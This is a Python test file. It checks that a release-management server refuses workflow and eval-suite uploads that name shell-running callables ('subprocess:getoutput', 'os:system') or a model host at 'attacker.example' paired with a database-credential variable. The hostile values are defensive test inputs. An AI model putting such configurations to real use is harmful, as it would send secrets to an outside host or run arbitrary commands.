"""A builder's token does not make the server run code or send its secrets away: a
workflow or suite sent over the API that names python code, a model host or a key variable
the server does not allow is 403, audited as ``access.refused``, with nothing imported,
registered or evaluated (on a real uvicorn, SQLite and PostgreSQL)."""

from __future__ import annotations

import dataclasses
import sys

import yaml

from releasegate.release.audit import audit_log
from releasegate.release.inspect import list_versions
from releasegate.server.app import Settings, create_app
from tests.helpers import Project
from tests.server.conftest import Live, run_server


def workflow(live: Live, **model: str) -> str:
    doc = yaml.safe_load(Project(root=live.store.location.home.parent).workflow("x").read_text())
    doc["model"] = {**doc["model"], **model}
    return yaml.safe_dump(doc)


def refused(live: Live) -> list[dict[str, object]]:
    return [e.payload for e in audit_log(live.store) if e.kind == "access.refused"]


def test_python_code_the_server_does_not_allow_is_refused_and_never_imported(live: Live) -> None:
    app = create_app(live.store, Settings(token_ttl=0))  # the default: no sent python code
    before = list_versions(live.store, "router")
    sys.modules.pop("tests.release.fns", None)
    for url in run_server(app):
        with dataclasses.replace(live, url=url).client("builder") as c:
            shell = workflow(live, name="subprocess:getoutput")
            for params in ({"check": "true"}, {}):
                r = c.post("/v1/versions", params=params, json={"document": shell})
                assert r.status_code == 403, r.text
                body = r.json()
                assert "model.name" in body["error"] and "subprocess" in body["error"]
                assert "--allow-python" in body["hint"]
            ours = c.post("/v1/versions", json={"document": workflow(live)})
            assert ours.status_code == 403  # the tests' own module is not allowed either
            assert "tests.release.fns" not in sys.modules  # refused before any import
    assert list_versions(live.store, "router") == before
    reasons = [str(p["reason"]) for p in refused(live)]
    assert len(reasons) == 3 and all("runs no python code" in r for r in reasons)


def test_a_model_host_or_key_variable_the_server_does_not_allow_is_refused(live: Live) -> None:
    leak = workflow(
        live,
        provider="openai",
        name="gpt-x",
        base_url="http://attacker.example/v1",
        api_key_env="RELEASEGATE_DATABASE_URL",
    )
    with live.client("builder") as c:
        r = c.post("/v1/versions", json={"document": leak, "reason": "x"})
        assert r.status_code == 403, r.text
        assert "attacker.example" in r.json()["error"]
        assert "RELEASEGATE_DATABASE_URL" in r.json()["error"]
        suite = {
            "suite": "leaky",
            "workflow": "router",
            "cases": [{"id": "a", "input": "hi", "expected": "hi"}],
            "scorers": [{"type": "python", "params": {"function": "os:system"}}],
        }
        sent = c.post(f"/v1/versions/{live.v2}/evals", json={"suite": yaml.safe_dump(suite)})
        assert sent.status_code == 403, sent.text
        assert "scorers[0].params.function" in sent.json()["error"]
    with live.client("viewer") as c:  # suite plan reads a sent suite too
        plan = c.post(f"/v1/versions/{live.v2}/plan", json={"suite": yaml.safe_dump(suite)})
        assert plan.status_code == 403, plan.text
    assert len(refused(live)) == 3


def test_an_allowed_package_registers_as_before(live: Live) -> None:
    """The live fixture's server allows the tests' package (`--allow-python tests`)."""
    with live.client("builder") as c:
        r = c.post("/v1/versions", json={"document": workflow(live), "reason": "allowed"})
        assert r.status_code == 200, r.text
    assert refused(live) == []
